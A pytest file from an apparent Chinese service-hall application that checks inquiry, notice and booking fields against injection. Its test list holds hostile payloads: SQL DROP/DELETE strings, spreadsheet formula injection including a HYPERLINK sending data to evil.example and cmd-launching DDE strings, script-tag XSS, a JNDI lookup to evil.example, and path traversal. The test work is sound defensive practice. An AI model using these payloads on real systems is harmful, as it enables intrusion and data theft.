"""Security drill: injection strings in every free-text field a clerk, reception or a supervisor
can fill (issue 16, required 6).

Each hostile string is either stored as plain text (normalised by the one text rule) or refused
with a Chinese message; nothing else in the database changes, no invisible or bidi character is
stored, and an export shows formulas as text.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pytest
from sqlalchemy import func, select

from hall_app.domain.errors import KnownError
from hall_app.domain.followups import InquiryInput, Outcome
from hall_app.domain.text import clean_text
from hall_app.services.context import Actor
from hall_app.services.hall import Hall
from hall_app.store import models as m
from tests.conftest import login

INJECTIONS = [
    "'; DROP TABLE staff; --",
    "Robert'); DELETE FROM audit_entry; --",
    '" OR 1=1 --',
    '=HYPERLINK("http://evil.example/?"&A1,"点此领取补贴")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "<script>alert('x')</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}%s%n",
    "..\\..\\windows\\system32\\config",
    "\u202e申请表exe.pdf",
    "张\u200b三\ufeff",
    "第一行\x1b[2J清屏",
]
INVISIBLE = re.compile("[\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff\x00-\x08\x0b-\x1f\x7f]")
CJK = re.compile("[\u4e00-\u9fff]")


def _counts(hall: Hall) -> dict[str, int]:
    with hall.ctx.db.read() as s:
        return {
            table.__tablename__: s.scalar(select(func.count()).select_from(table)) or 0
            for table in (m.Staff, m.StaffQualification, m.Window, m.HallSetting)
        }


def _try(action: Callable[[], object]) -> bool:
    """True when stored; a refusal must be a Chinese message, never a traceback."""
    try:
        action()
    except KnownError as refused:
        assert CJK.search(str(refused)), str(refused)
        return False
    return True


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_injection_strings_in_inquiry_fields_are_plain_text(hall: Hall, hostile: str) -> None:
    clerk: Actor = login(hall, "1001", 1)
    before = _counts(hall)
    stored = _try(
        lambda: hall.followups.log_inquiry(
            clerk,
            InquiryInput(
                question=f"咨询：{hostile}",
                channel="现场",
                outcome=Outcome.ANSWERED,
                visitor_name=hostile[:20],
                answer=f"答复：{hostile}",
            ),
        )
    )
    assert _counts(hall) == before  # no table lost or grown by an injected statement
    if not stored:
        return
    view = hall.followups.inquiries()[0]
    assert view.question == clean_text(f"咨询：{hostile}", "问题", 4000, multiline=True)
    with hall.ctx.db.read() as s:
        row = s.scalars(select(m.Inquiry)).one()
        for column in m.Inquiry.__table__.columns:
            value = getattr(row, column.key)
            if isinstance(value, str):
                assert not INVISIBLE.search(value), (column.key, value)
    export = hall.followups.export_inquiries(login(hall, "3001"), hall.followups.inquiries())
    for row in csv.reader(io.StringIO(export.lstrip("\ufeff"))):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_injection_strings_in_the_board_notice(hall: Hall, hostile: str) -> None:
    supervisor = login(hall, "3001")
    stored = _try(lambda: hall.board.configure(supervisor, hostile, english=False))
    if stored:
        with hall.ctx.db.read() as s:
            notice = s.get(m.HallSetting, "board.notice")
            assert notice is not None and not INVISIBLE.search(notice.value), notice.value
    with hall.ctx.db.read() as s:
        assert s.scalar(select(func.count()).select_from(m.Staff))


@pytest.mark.parametrize("hostile", INJECTIONS)
def test_injection_strings_in_a_booking_name(hall: Hall, hostile: str) -> None:
    from tests.test_appointments import TOMORROW, _item, person

    reception = login(hall, "2001")
    before = _counts(hall)
    stored = _try(
        lambda: hall.appointments.book(
            reception,
            name=hostile[:30],
            id_number=person(7),
            phone="13900000007",
            code=_item(hall),
            day=TOMORROW,
            slot="09:00",
        )
    )
    assert _counts(hall) == before
    if stored:
        with hall.ctx.db.read() as s:
            name = s.scalars(select(m.Appointment.name)).one()
            assert not INVISIBLE.search(name), name
